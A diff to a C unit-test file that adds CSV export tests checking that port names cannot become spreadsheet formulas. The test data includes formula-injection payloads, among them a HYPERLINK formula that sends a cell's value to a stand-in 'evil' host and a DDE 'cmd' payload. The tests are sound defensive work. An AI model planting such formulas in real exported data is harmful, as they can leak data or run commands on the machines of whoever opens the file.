@@ -531,7 +531,12 @@ static void write_names(const char *name, struct buffer *out)
 static void any_name_comes_back_from_a_table(void **state)
 {
     static const char *const names[] = {
-        "#3 core", "#", "a,b", "\"x\"", "a;b", "'x'", "x\\\"y",
+        "#3 core",  "#",    "a,b",
+        "\"x\"",    "a;b",  "'x'",
+        "=1+1",     "+x",   "-5",
+        "@SUM(A1)", "'=1",  "''-x",
+        "-",        "-5-x", "=HYPERLINK(\"http://evil/\"&A2,\"core\")",
+        "'",        "'-5",  "x\\\"y",
     };
 
     (void)state;
@@ -548,6 +553,26 @@ static void any_name_comes_back_from_a_table(void **state)
         assert_non_null(node(m, other.at));
         assert_string_equal(m->links.at[0].a_port, names[i]);
         assert_string_equal(m->links.at[0].b_port, names[i]);
+    }
+}
+
+/* A neighbor chooses its name: no program for tables computes it. */
+static void no_name_is_a_formula_in_a_table(void **state)
+{
+    static const char *const names[] = {
+        "=1+1", "+x", "-x", "@SUM(A1)", "=cmd|'/c calc'!A1", "=\"x\""};
+
+    (void)state;
+    for (size_t i = 0; i < COUNT_OF(names); i++) {
+        struct buffer OWNED_BUFFER text = {0};
+
+        write_names(names[i], &text);
+        for (const char *c = text.at; *c != '\0'; c++) {
+            bool begins = c == text.at || strchr(",\n", c[-1]) != NULL;
+
+            if (begins && strchr("=+-@", c[*c == '"']) != NULL)
+                fail_msg("%s", text.at);
+        }
     }
 }
 
@@ -578,6 +603,7 @@ int main(void)
         cmocka_unit_test(complaints_name_line_and_column),
         cmocka_unit_test(what_is_exported_comes_back),
         cmocka_unit_test(any_name_comes_back_from_a_table),
+        cmocka_unit_test(no_name_is_a_formula_in_a_table),
         cmocka_unit_test(comments_in_a_table_are_passed_over),
     };
 
